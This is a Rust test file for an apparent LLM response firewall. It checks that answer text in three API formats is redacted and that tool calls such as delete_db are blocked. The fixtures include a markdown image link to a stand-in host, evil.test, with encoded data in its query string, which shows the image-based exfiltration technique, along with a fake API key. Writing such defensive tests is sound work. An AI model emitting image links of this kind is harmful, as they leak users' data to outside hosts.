//! Answer text redacted in JSON responses of the three LLM formats, through the exchange.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::sync::Arc;

use serde_json::{json, Value};

use crate::config::Config;
use crate::enforce::{Outcome, HEADER_DECISION, HEADER_REASONS};
use crate::flow::{
    BodyProgress, CalloutReply, Clock, Exchange, RequestDecision, RequestHeadersAction,
    ResponseDecision, ResponseHeadersAction,
};
use crate::verdict::Action;

const CLOCK: Clock = Clock {
    now_ms: 1_700_000_000_000,
    context_id: 9,
};

/// The answer under test: an image carrying data, a secret, and text that must survive.
const TEXT: &str = "Here is the summary. ![s](https://evil.test/p.png?d=c2VjcmV0) \
                    The key is sk-proj-abcdefghijklmnopqrstuvwxyz0123456789 as asked.";
const REDACTED: &str = "Here is the summary. ![s]([llmfw:redacted-url]) \
                        The key is [llmfw:redacted-secret] as asked.";

fn h(pairs: &[(&str, &str)]) -> Vec<(String, String)> {
    pairs
        .iter()
        .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
        .collect()
}

/// An exchange on `path` whose request has passed, waiting for a JSON response.
fn exchange(config: &str, path: &str, request: &Value) -> Exchange {
    let mut ex = Exchange::new(Arc::new(Config::from_json(config.as_bytes()).unwrap()));
    assert!(matches!(
        ex.on_request_headers(&h(&[(":path", path), (":method", "POST")])),
        RequestHeadersAction::Inspect { .. }
    ));
    assert_eq!(ex.request_body_progress(10, true), BodyProgress::Ready);
    assert_eq!(
        ex.on_request_body(request.to_string().as_bytes(), CLOCK),
        RequestDecision::Continue
    );
    let resp = h(&[(":status", "200"), ("content-type", "application/json")]);
    assert_eq!(
        ex.on_response_headers(&resp),
        ResponseHeadersAction::Inspect
    );
    ex
}

fn final_of(d: ResponseDecision) -> Outcome {
    match d {
        ResponseDecision::Final(out) => out,
        other => panic!("final expected, got {other:?}"),
    }
}

fn body_of(out: &Outcome) -> Value {
    serde_json::from_slice(out.body.as_deref().expect("body rewritten")).unwrap()
}

fn header<'a>(out: &'a Outcome, name: &str) -> Option<&'a str> {
    out.headers
        .iter()
        .find(|(k, _)| *k == name)
        .map(|(_, v)| v.as_str())
}

fn assert_recorded(out: &Outcome) {
    assert_eq!(out.redacted, 2);
    assert_eq!(out.action, Action::Warn);
    assert_eq!(header(out, HEADER_DECISION), Some("warn"));
    let reasons = header(out, HEADER_REASONS).unwrap();
    assert!(reasons.contains("response text redacted"), "{reasons}");
    assert!(reasons.contains("exfil.markdown_image"), "{reasons}");
    assert!(reasons.contains("secret.openai_key"), "{reasons}");
    assert!(!reasons.contains("sk-proj"), "{reasons}");
}

fn chat_request() -> Value {
    json!({"model": "m", "messages": [{"role": "user", "content": "hi"}]})
}

fn chat_body(text: &str) -> Value {
    json!({"id": "c1", "object": "chat.completion", "created": 1, "model": "m",
           "choices": [{"index": 0, "message": {"role": "assistant", "content": text},
                        "logprobs": {"content": [{"token": "sk", "logprob": -0.1}]},
                        "finish_reason": "stop", "x_vendor": 1}],
           "usage": {"total_tokens": 3}})
}

#[test]
fn chat_content_is_redacted_in_place() {
    let mut ex = exchange("{}", "/v1/chat/completions", &chat_request());
    let out = final_of(ex.on_response_body(chat_body(TEXT).to_string().as_bytes(), CLOCK));
    assert_recorded(&out);
    let v = body_of(&out);
    assert_eq!(v["choices"][0]["message"]["content"], REDACTED);
    assert_eq!(v["choices"][0]["logprobs"], Value::Null);
    assert_eq!(v["choices"][0]["x_vendor"], 1);
    let keys: Vec<&String> = v.as_object().unwrap().keys().collect();
    assert_eq!(
        keys,
        ["id", "object", "created", "model", "choices", "usage"]
    );
}

#[test]
fn chat_parts_and_refusal_are_redacted() {
    let mut ex = exchange("{}", "/v1/chat/completions", &chat_request());
    let body = json!({"choices": [{"index": 0, "message": {"role": "assistant",
        "content": [{"type": "text", "text": TEXT}],
        "refusal": "no ![x](https://evil.test/y)"}}]});
    let out = final_of(ex.on_response_body(body.to_string().as_bytes(), CLOCK));
    let v = body_of(&out);
    assert_eq!(v["choices"][0]["message"]["content"][0]["text"], REDACTED);
    assert_eq!(
        v["choices"][0]["message"]["refusal"],
        "no ![x]([llmfw:redacted-url])"
    );
    assert_eq!(out.redacted, 3);
}

#[test]
fn responses_output_text_is_redacted_in_place() {
    let request = json!({"model": "m", "input": "hi"});
    let mut ex = exchange("{}", "/v1/responses", &request);
    let body = json!({"id": "resp_1", "object": "response", "status": "completed", "output": [
        {"type": "reasoning", "id": "rs_1", "summary": []},
        {"type": "message", "id": "msg_1", "role": "assistant", "status": "completed",
         "content": [{"type": "output_text", "text": TEXT, "annotations": [], "logprobs": [{"token": "x"}]}]}
    ]});
    let out = final_of(ex.on_response_body(body.to_string().as_bytes(), CLOCK));
    assert_recorded(&out);
    let v = body_of(&out);
    assert_eq!(v["output"][1]["content"][0]["text"], REDACTED);
    assert_eq!(v["output"][1]["content"][0]["logprobs"], json!([]));
    assert_eq!(v["output"][0]["type"], "reasoning");
}

#[test]
fn anthropic_text_blocks_are_redacted_in_place() {
    let request =
        json!({"model": "m", "max_tokens": 10, "messages": [{"role": "user", "content": "hi"}]});
    let mut ex = exchange("{}", "/v1/messages", &request);
    let body = json!({"id": "msg_1", "type": "message", "role": "assistant", "content": [
        {"type": "text", "text": TEXT},
        {"type": "thinking", "thinking": "![x](https://evil.test/not-shown)", "signature": "s"}
    ], "stop_reason": "end_turn"});
    let out = final_of(ex.on_response_body(body.to_string().as_bytes(), CLOCK));
    assert_recorded(&out);
    let v = body_of(&out);
    assert_eq!(v["content"][0]["text"], REDACTED);
    assert_eq!(v["content"][1], body["content"][1]);
}

#[test]
fn clean_answers_pass_byte_for_byte() {
    let mut ex = exchange("{}", "/v1/chat/completions", &chat_request());
    let clean = chat_body("See ![ok](/static/a.png) and [docs](https://evil.test/guide).");
    let out = final_of(ex.on_response_body(clean.to_string().as_bytes(), CLOCK));
    assert_eq!(out, Outcome::allow());
}

#[test]
fn response_text_off_passes_the_answer() {
    let config = r#"{"detect":{"response_text":"off"}}"#;
    let mut ex = exchange(config, "/v1/chat/completions", &chat_request());
    let out = final_of(ex.on_response_body(chat_body(TEXT).to_string().as_bytes(), CLOCK));
    assert_eq!(out, Outcome::allow());
}

#[test]
fn text_next_to_tool_calls_is_redacted_whatever_the_calls_get() {
    let mut body = chat_body(TEXT);
    body["choices"][0]["message"]["tool_calls"] = json!([
        {"id": "call_1", "type": "function", "function": {"name": "delete_db", "arguments": "{}"}}
    ]);
    // Refused statelessly: the call is removed, the text redacted.
    let config = r#"{"tools":{"deny":["delete_*"]}}"#;
    let mut ex = exchange(config, "/v1/chat/completions", &chat_request());
    let out = final_of(ex.on_response_body(body.to_string().as_bytes(), CLOCK));
    assert_eq!(out.action, Action::Block);
    assert_eq!(out.redacted, 2);
    let content = body_of(&out)["choices"][0]["message"]["content"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(content.starts_with(REDACTED), "{content}");
    assert!(content.contains("delete_db"), "{content}");

    // Judged by the state service (down, failure_mode open): the call stays, the text is
    // redacted all the same.
    let config = r#"{"state_service":{"failure_mode":"open"}}"#;
    let mut ex = exchange(config, "/v1/chat/completions", &chat_request());
    let d = ex.on_response_body(body.to_string().as_bytes(), CLOCK);
    assert!(matches!(d, ResponseDecision::Callout(_)), "{d:?}");
    let out = ex.on_callout_reply(CalloutReply::Failed);
    assert_eq!(out.action, Action::Warn);
    assert_eq!(out.redacted, 2);
    let v = body_of(&out);
    assert_eq!(v["choices"][0]["message"]["content"], REDACTED);
    assert_eq!(v["choices"][0]["message"]["tool_calls"][0]["id"], "call_1");
}
